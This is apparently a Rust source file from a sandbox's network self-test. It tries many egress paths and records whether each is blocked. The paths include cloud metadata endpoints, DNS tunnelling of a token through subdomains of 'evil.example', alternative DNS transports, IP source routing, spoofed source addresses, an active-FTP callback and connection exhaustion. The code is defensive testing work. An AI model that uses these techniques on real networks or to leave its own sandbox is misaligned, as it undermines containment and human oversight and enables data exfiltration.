//! Addresses and ports: where a packet may go at all.

use std::{
    io::Read,
    net::{TcpListener, TcpStream, UdpSocket},
};

use nix::sys::socket::{setsockopt, sockopt};

use super::{Attempt, Under};
use crate::{
    selftest::{
        bytes::{framed, get, plain_hello, question},
        names::ALLOWED,
        probe::{Saw, ask, connect, hear, records, say, say_other, send, send_twice},
        servers::BANNER,
    },
    sys::trial,
};

pub const ATTEMPTS: &[Attempt] = &[
    Attempt::new(1, "HTTP to an address", |t| Saw::answered(say("93.184.220.1:80", &get(t, "93.184.220.1"))))
        .only(&["93.184.220.1"]),
    Attempt::new(1, "TLS to an address", |t| Saw::answered(say("93.184.220.2:443", &plain_hello(t))))
        .only(&["93.184.220.2"]),
    Attempt::new(1, "anything to an address", |t| Saw::answered(say_other("93.184.220.3:9999", t)))
        .only(&["93.184.220.3"]),
    Attempt::new(1, "the address that an allowed name has", |t| {
        Saw::answered(say("93.184.215.14:80", &get(t, ALLOWED)))
    }),
    Attempt::new(11, "169.254.169.254", |t| metadata("169.254.169.254", t))
        .only(&["169.254.169.254"])
        .under(Under::Open),
    Attempt::new(11, "ECS: 169.254.170.2", |t| metadata("169.254.170.2", t))
        .only(&["169.254.170.2"])
        .under(Under::Open),
    Attempt::new(11, "Azure: 168.63.129.16", |t| metadata("168.63.129.16", t))
        .only(&["168.63.129.16"])
        .under(Under::Open),
    Attempt::new(11, "Alibaba: 100.100.100.200", |t| metadata("100.100.100.200", t))
        .only(&["100.100.100.200"])
        .under(Under::Open),
    Attempt::new(11, "Oracle: 192.0.0.192", |t| metadata("192.0.0.192", t)).only(&["192.0.0.192"]).under(Under::Open),
    Attempt::new(11, "AWS by IPv6: fd00:ec2::254", |t| metadata("[fd00:ec2::254]", t))
        .only(&["fd00:ec2::254"])
        .under(Under::Open),
    Attempt::new(11, "metadata.google.internal", |t| metadata("metadata.google.internal", t)).under(Under::Open),
    Attempt::new(11, "by the proxy: 169.254.169.254", |t| {
        Saw::answered(say(
            "198.18.0.1:3128",
            &format!("GET http://169.254.169.254/{t} HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n").into_bytes(),
        ))
    })
    .under(Under::Open),
    Attempt::new(12, "a question for a secret below one's own name", |t| {
        tunnel(&[t.as_bytes(), b"evil", b"example"], 1)
    }),
    Attempt::new(12, "a question for a secret below an allowed wildcard", |t| {
        tunnel(&[t.as_bytes(), b"wild", b"example"], 1)
    }),
    Attempt::new(12, "a question for text", |t| tunnel(&[t.as_bytes(), b"wild", b"example"], 16)),
    Attempt::new(12, "a question for a long secret", |t| tunnel(&[&[b'x'; 60], t.as_bytes(), b"evil", b"example"], 28)),
    Attempt::new(12, "by the system's resolver, with everything allowed", |t| {
        let found = std::net::ToSocketAddrs::to_socket_addrs(&(format!("{t}.example"), 80));
        Saw::answered(found.map(|mut found| found.next().map_or_else(Vec::new, |to| to.to_string().into_bytes())))
    })
    .under(Under::Open),
    Attempt::new(13, "UDP to a resolver", |t| {
        Saw::answered(ask("8.8.8.8:53", &question(&[t.as_bytes(), b"example"], 1)))
    })
    .only(&["8.8.8.8"]),
    Attempt::new(13, "TCP to a resolver", |t| {
        Saw::answered(say("8.8.4.4:53", &framed(&question(&[t.as_bytes(), b"example"], 1))))
    })
    .only(&["8.8.4.4"]),
    Attempt::new(13, "DNS over TLS", |t| Saw::answered(say("1.1.1.1:853", &plain_hello(&format!("{t}.example")))))
        .only(&["1.1.1.1"]),
    Attempt::new(13, "DNS over TLS, to an allowed name", |t| {
        Saw::answered(say(&format!("{ALLOWED}:853"), &plain_hello(&format!("{t}.example"))))
    }),
    Attempt::new(13, "DNS over QUIC", |t| Saw::answered(send("1.0.0.1:853", t.as_bytes()))).only(&["1.0.0.1"]),
    Attempt::new(13, "DNS over HTTPS", |t| Saw::answered(say("dns.google:443", &plain_hello(&format!("{t}.google"))))),
    Attempt::new(13, "mDNS", |t| Saw::answered(send("224.0.0.251:5353", t.as_bytes()))).only(&["224.0.0.251"]),
    Attempt::new(13, "LLMNR", |t| Saw::answered(send("224.0.0.252:5355", t.as_bytes()))).only(&["224.0.0.252"]),
    Attempt::new(13, "NetBIOS", |t| Saw::answered(send("93.184.220.13:137", t.as_bytes()))).only(&["93.184.220.13"]),
    Attempt::new(14, "UDP 443 to an address", |t| Saw::answered(send("93.184.220.14:443", t.as_bytes())))
        .only(&["93.184.220.14"]),
    Attempt::new(14, "UDP 443 to an allowed name", |t| Saw::answered(send(&format!("{ALLOWED}:443"), t.as_bytes()))),
    Attempt::new(16, "TCP", |t| Saw::answered(say("[2606:2800:220:1::1]:80", &get(t, "a"))))
        .only(&["2606:2800:220:1::1"])
        .under(Under::Open),
    Attempt::new(16, "UDP", |t| Saw::answered(send("[2606:2800:220:1::2]:443", t.as_bytes())))
        .only(&["2606:2800:220:1::2"])
        .under(Under::Open),
    Attempt::new(16, "a resolver", |t| Saw::answered(send("[2001:4860:4860::8888]:53", t.as_bytes())))
        .only(&["2001:4860:4860::8888"]),
    Attempt::new(17, "a source route", |t| {
        with_option(libc::IP_OPTIONS, &[131, 7, 4, 93, 184, 220, 17, 0], "93.184.220.17:9999", t)
    })
    .only(&["93.184.220.17"]),
    Attempt::new(17, "a datagram in fragments", |t| {
        let bytes: Vec<u8> = t.bytes().cycle().take(65_000).collect();
        Saw::answered(send("93.184.220.18:9999", &bytes))
    })
    .only(&["93.184.220.18"]),
    Attempt::new(17, "an extension header", |t| sixth_with_header("[2606:2800:220:1::17]:9999", t))
        .only(&["2606:2800:220:1::17"]),
    Attempt::new(18, "datagrams from another's address", |t| spoofed("93.184.220.20:9999", t)).only(&["93.184.220.20"]),
    Attempt::new(18, "questions from another's address", |t| spoofed("8.8.8.9:53", t)).only(&["8.8.8.9"]),
    Attempt::new(18, "the gateway's other ports", |t| {
        let tried = [1, 22, 80, 9999].map(|port| say_other(&format!("198.18.0.1:{port}"), t));
        Saw::answered(tried.into_iter().find(Result::is_ok).unwrap_or(Err(std::io::ErrorKind::ConnectionReset.into())))
    }),
    Attempt::new(18, "neighbours", |t| Saw::answered(say_other("198.18.0.6:9999", t))).only(&["198.18.0.6"]),
    Attempt::new(20, "127.0.0.1", |_| heard("127.0.0.1:2222")),
    Attempt::new(20, "localhost", |_| heard("localhost:2222")),
    Attempt::new(20, "::1", |t| Saw::answered(say_other("[::1]:9998", t))),
    Attempt::new(20, "0.0.0.0", |_| heard("0.0.0.0:2222")),
    Attempt::new(20, "another address of the loopback device", |_| heard("127.8.8.8:2222")),
    Attempt::new(20, "the host's own address, with everything allowed", |_| heard("5.5.5.1:2222")).under(Under::Open),
    Attempt::new(20, "host.fumehood.internal", |t| Saw::answered(say_other("host.fumehood.internal:9999", t)))
        .under(Under::Open),
    Attempt::new(22, "a connection and a datagram, at once", |t| {
        _ = send("93.184.220.22:9999", t.as_bytes());
        Saw::answered(say_other("93.184.220.22:9999", t))
    })
    .only(&["93.184.220.22"])
    .under(Under::Start),
    Attempt::new(24, "active FTP", |_| called_back()),
    Attempt::new(28, "port 25", |t| Saw::answered(say_other("mail.example:25", t))).under(Under::Open),
    Attempt::new(28, "port 465", |t| Saw::answered(say("mail.example:465", &plain_hello(t)))).under(Under::Open),
    Attempt::new(28, "port 587", |t| Saw::answered(say_other("93.184.220.28:587", t))).under(Under::Open),
    Attempt::new(28, "by an allowed name", |t| Saw::answered(say_other(&format!("{ALLOWED}:25"), t))),
    Attempt::new(29, "more than 512 connections", |_| many()),
];

fn metadata(host: &str, token: &str) -> Saw {
    Saw::answered(say(&format!("{host}:80"), &get(token, host)))
}

fn tunnel(labels: &[&[u8]], kind: u16) -> Saw {
    let question = question(labels, kind);
    match ask("93.184.215.53:53", &question) {
        // An answer with what only the world's server knows.
        Ok(answer) if answer.windows(4).any(|part| part == b"leak") => {
            Saw::Through("the world's answer came".to_owned())
        }
        Ok(answer) => Saw::Kept(format!("answered with code {}", records(&answer).unwrap_or_default().0)),
        Err(error) => Saw::answered(Err(error)),
    }
}

/// Whether it is one of our servers that speaks.
fn heard(to: &str) -> Saw {
    match hear(to) {
        Ok(bytes) if bytes == BANNER => Saw::Through(format!("{to} answers")),
        other => Saw::answered(other),
    }
}

fn with_option(option: i32, value: &[u8], to: &str, token: &str) -> Saw {
    let Ok(socket) = UdpSocket::bind("0.0.0.0:0") else { return Saw::Kept("no socket".to_owned()) };
    if let Err(errno) = trial::set_option(&socket, libc::IPPROTO_IP, option, value) {
        return Saw::Kept(errno.desc().to_owned());
    }
    // By a router that would hand it on.
    Saw::answered(socket.connect(to).and_then(|()| send_twice(&socket, token.as_bytes())))
}

fn sixth_with_header(to: &str, token: &str) -> Saw {
    // linux/in6.h
    const DESTINATION_OPTIONS: i32 = 59;
    let Ok(socket) = UdpSocket::bind("[::]:0") else { return Saw::Kept("no socket".to_owned()) };
    // Next header, length, and six bytes of padding.
    if let Err(errno) = trial::set_option(&socket, libc::IPPROTO_IPV6, DESTINATION_OPTIONS, &[0, 0, 1, 4, 0, 0, 0, 0]) {
        return Saw::Impossible(errno.desc().to_owned());
    }
    Saw::answered(socket.connect(to).and_then(|()| send_twice(&socket, token.as_bytes())))
}

fn spoofed(to: &str, token: &str) -> Saw {
    let made = trial::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)
        .and_then(|socket| {
            // Who may have any address has it; an address that will come one day, everybody has.
            if trial::set_option(&socket, libc::IPPROTO_IP, libc::IP_TRANSPARENT, &1_i32.to_ne_bytes()).is_err() {
                setsockopt(&socket, sockopt::IpFreebind, &true)?;
            }
            Ok(socket)
        })
        .and_then(|socket| {
            let other = nix::sys::socket::SockaddrIn::new(93, 184, 219, 1, 0);
            nix::sys::socket::bind(std::os::fd::AsRawFd::as_raw_fd(&socket), &other).map(|()| socket)
        });
    let socket = match made {
        Ok(socket) => UdpSocket::from(socket),
        Err(errno) => return Saw::Kept(errno.desc().to_owned()),
    };
    Saw::answered(socket.connect(to).and_then(|()| send_twice(&socket, token.as_bytes())))
}

/// Asks a server to connect back, and sees whether anybody does.
fn called_back() -> Saw {
    let tried = || -> std::io::Result<bool> {
        let own = TcpListener::bind("0.0.0.0:0")?;
        let port = own.local_addr()?.port();
        let mut control = connect(&format!("{ALLOWED}:21"))?;
        let mut greeting = [0; 64];
        _ = control.read(&mut greeting)?;
        let line = format!("PORT 198,18,0,2,{},{}\r\n", port >> 8, port & 255);
        std::io::Write::write_all(&mut control, line.as_bytes())?;
        // The server repeats what was said to it once it has tried.
        _ = control.read(&mut greeting)?;
        own.set_nonblocking(true)?;
        Ok(own.accept().is_ok())
    };
    match tried() {
        Ok(true) => Saw::Through("the server connected back".to_owned()),
        Ok(false) => Saw::Kept("nobody connected back".to_owned()),
        Err(error) => Saw::answered(Err(error)),
    }
}

fn many() -> Saw {
    const MANY: usize = 600;
    const MOST: usize = 512;
    let mut open: Vec<TcpStream> = Vec::new();
    let mut failed = None;
    for _ in 0..MANY {
        match connect(&format!("{ALLOWED}:2222")) {
            Ok(stream) => open.push(stream),
            Err(error) => failed = Some(error),
        }
    }
    // All are open at once before the first is heard.
    let served = open.iter().filter(|stream| {
        let mut first = [0];
        (&mut &**stream).read(&mut first).is_ok_and(|length| length == 1)
    });
    match (served.count(), failed) {
        (served, _) if served > MOST => Saw::Through(format!("{served} at once")),
        (served, None) => Saw::Kept(format!("{served} of {MANY} at once")),
        (served, Some(error)) => Saw::Kept(format!("{served} of {MANY} at once: {error}")),
    }
}
